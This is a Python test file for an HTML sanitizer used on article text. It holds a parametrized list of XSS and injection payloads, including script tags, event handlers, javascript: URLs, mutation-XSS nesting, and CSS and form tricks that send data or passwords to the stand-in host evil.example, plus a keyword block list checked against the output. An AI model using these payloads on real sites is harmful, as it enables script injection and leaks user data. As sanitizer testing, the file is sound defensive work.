"""What is shown holds nothing but an article's marks, whatever went in."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from firsthand.extract import safe_html

SAFE = "http://evil.example"


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        '<p onclick="alert(1)">x</p>',
        '<a href="javascript:alert(1)">x</a>',
        '<a href="java\tscript:alert(1)">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<a href="vbscript:x">x</a>',
        '<img src=x onerror="alert(1)">',
        '<img src="https://evil.example/pixel.gif">',
        '<img src="//evil.example/pixel.gif">',
        '<img src="/image/../logout">',
        '<img src="/logout">',
        '<img src="/imagefoo">',
        '<img src="/image/x" srcset="https://evil.example/p 2x">',
        "<svg><script>alert(1)</script></svg>",
        "<svg onload=alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<style>p{background:url(https://evil.example/?leak)}</style>",
        '<p style="background:url(https://evil.example/?leak)">x</p>',
        '<link rel=stylesheet href="https://evil.example/x.css">',
        "<iframe src=https://evil.example></iframe>",
        '<form action="https://evil.example"><input name=password></form>',
        '<meta http-equiv=refresh content="0;url=https://evil.example">',
        '<base href="https://evil.example/">',
        "<object data=x></object><embed src=x>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "<p id=x name=y data-hx-get=/logout hx-post=/logout>x</p>",
        '<span class="x&quot; onclick=&quot;alert(1)">x</span>',
        "<video src=https://evil.example/v autoplay></video>",
        "<template><script>alert(1)</script></template>",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    ],
)
def test_nothing_dangerous_comes_through(html: str) -> None:
    shown = safe_html(html)
    tags = "".join(re.findall(r"<[^>]*>", shown))
    for word in (
        "script",
        "onclick",
        "onerror",
        "onload",
        "style",
        "javascript:",
        "data:",
        "evil.example",
        "logout",
        "srcset",
    ):
        assert word not in tags.lower()
    assert not re.search(
        r"<(?:svg|math|iframe|form|input|meta|base|object|embed|video|link|template)", shown, re.IGNORECASE
    )


def test_what_an_article_needs_stays() -> None:
    html = (
        '<p>A <mark class="hit">word</mark>, <em>b</em>, <strong>c</strong></p>'
        "<p>H<sub>2</sub>O<sup>1</sup> <del>x</del><ins>y</ins></p>"
        '<h2>Heading</h2><blockquote><p>Quote</p></blockquote><ul><li>One</li></ul><ol start="2"><li>Two</li></ol>'
        '<figure><img src="/image/abc?w=800" alt="A wall" loading="lazy"><figcaption>Caption</figcaption></figure>'
        '<table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">B</td></tr></tbody></table>'
        '<time datetime="2025-03-08">8 March</time> <span class="statement direct">said</span>'
    )
    assert safe_html(html) == html


def test_links_leave_without_a_trace() -> None:
    shown = safe_html('<a href="https://a.example/x?y=1&amp;z=2" target="_top" rel="opener">x</a>')
    assert shown == '<a href="https://a.example/x?y=1&amp;z=2" rel="noopener noreferrer">x</a>'


def test_relative_links_are_no_links() -> None:
    assert "href" not in safe_html('<a href="/logout">x</a>')


@given(st.text(max_size=200))
def test_any_text_is_safe_and_stable(text: str) -> None:
    shown = safe_html(text)
    assert "<script" not in shown.lower()
    assert safe_html(shown) == shown
